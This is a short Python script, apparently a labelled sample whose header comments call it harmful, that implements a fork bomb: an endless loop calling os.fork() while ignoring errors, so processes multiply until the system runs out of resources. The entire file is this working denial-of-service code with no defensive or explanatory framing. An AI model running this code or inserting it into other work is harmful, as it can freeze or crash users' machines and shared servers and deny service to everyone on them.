# where: first
# kind: harms
# does: Every process makes another, for ever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
